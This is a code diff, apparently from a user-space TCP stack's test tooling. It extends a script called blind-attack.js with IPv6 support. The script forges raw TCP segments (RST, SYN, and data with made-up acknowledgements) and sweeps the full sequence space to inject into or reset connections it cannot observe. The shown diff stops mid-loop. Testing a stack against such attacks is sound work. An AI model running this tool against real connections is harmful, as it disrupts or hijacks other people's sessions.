@@ -2,6 +2,7 @@
 // steps: RST, then SYN, then data with made-up acknowledgements. Through an AF_PACKET ring on the client's interface:
 //   blind-attack.js DIST INTERFACE DESTINATION-MAC SOURCE SOURCE-PORT DESTINATION PORT STEP
 // Prints JSON: how many segments of each kind went out.
+import { isIPv6 } from 'node:net';
 import { pathToFileURL } from 'node:url';
 
 const [dist, device, macText, source, sourcePort, destination, port, stepText] = process.argv.slice(2);
@@ -9,6 +10,7 @@ const load = (path) => import(pathToFileURL(`${dist}/${path}`).href);
 const { openAfPacket } = await load('io-engine/af-packet.js');
 const { finish, sum } = await load('stack/wire/checksum.js');
 const { parseIpv4Address } = await load('stack/wire/ipv4.js');
+const { parseIpv6Address } = await load('stack/wire/ipv6.js');
 
 const engine = openAfPacket({
   engine: 'afpacket',
@@ -32,33 +34,46 @@ const kinds = {
   syn: { flags: 0x02, payload: Buffer.alloc(0) },
   data: { flags: 0x18, payload: FLUSH },
 };
+const six = isIPv6(source);
+const addresses = 14 + (six ? 8 : 12);
+const tcp = 14 + (six ? 40 : 20);
 const step = Number(stepText);
 const pause = new Int32Array(new SharedArrayBuffer(4));
 const sent = {};
 
 for (const [name, { flags, payload }] of Object.entries(kinds)) {
-  const frame = new Uint8Array(14 + 20 + 20 + payload.length);
+  const frame = new Uint8Array(tcp + 20 + payload.length);
   const view = new DataView(frame.buffer);
   frame.set(macText.split(':').map((byte) => Number.parseInt(byte, 16)));
   frame.set(engine.link.mac, 6);
-  view.setUint16(12, 0x0800);
-  frame[14] = 0x45;
-  view.setUint16(16, 40 + payload.length);
-  frame.set([64, 6], 22);
-  view.setInt32(26, parseIpv4Address(source));
-  view.setInt32(30, parseIpv4Address(destination));
-  view.setUint16(24, finish(sum(frame, 14, 20, 0)));
-  view.setUint16(34, Number(sourcePort));
-  view.setUint16(36, Number(port));
-  view.setUint16(46, (5 << 12) | flags);
-  view.setUint16(48, 65535);
-  frame.set(payload, 54);
+  if (six) {
+    view.setUint16(12, 0x86dd);
+    frame[14] = 0x60;
+    view.setUint16(18, 20 + payload.length);
+    frame.set([6, 64], 20);
+    frame.set(parseIpv6Address(source), addresses);
+    frame.set(parseIpv6Address(destination), addresses + 16);
+  } else {
+    view.setUint16(12, 0x0800);
+    frame[14] = 0x45;
+    view.setUint16(16, 40 + payload.length);
+    frame.set([64, 6], 22);
+    view.setInt32(addresses, parseIpv4Address(source));
+    view.setInt32(addresses + 4, parseIpv4Address(destination));
+    view.setUint16(24, finish(sum(frame, 14, 20, 0)));
+  }
+  view.setUint16(tcp, Number(sourcePort));
+  view.setUint16(tcp + 2, Number(port));
+  view.setUint16(tcp + 12, (5 << 12) | flags);
+  view.setUint16(tcp + 14, 65535);
+  frame.set(payload, tcp + 20);
+  const pseudo = sum(frame, addresses, tcp - addresses, 6 + 20 + payload.length);
   sent[name] = 0;
   for (let seq = 0; seq < 2 ** 32; seq += step) {
-    view.setUint32(38, seq);
-    if (name === 'data') view.setUint32(42, Math.imul(seq, 0x9e3779b1) >>> 0);
-    view.setUint16(50, 0);
-    view.setUint16(50, finish(sum(frame, 34, 20 + payload.length, sum(frame, 26, 8, 6 + 20 + payload.length))));
+    view.setUint32(tcp + 4, seq);
+    if (name === 'data') view.setUint32(tcp + 8, Math.imul(seq, 0x9e3779b1) >>> 0);
+    view.setUint16(tcp + 16, 0);
+    view.setUint16(tcp + 16, finish(sum(frame, tcp, 20 + payload.length, pseudo)));
     for (;;) {
       const at = engine.reserve();
       if (at >= 0) {
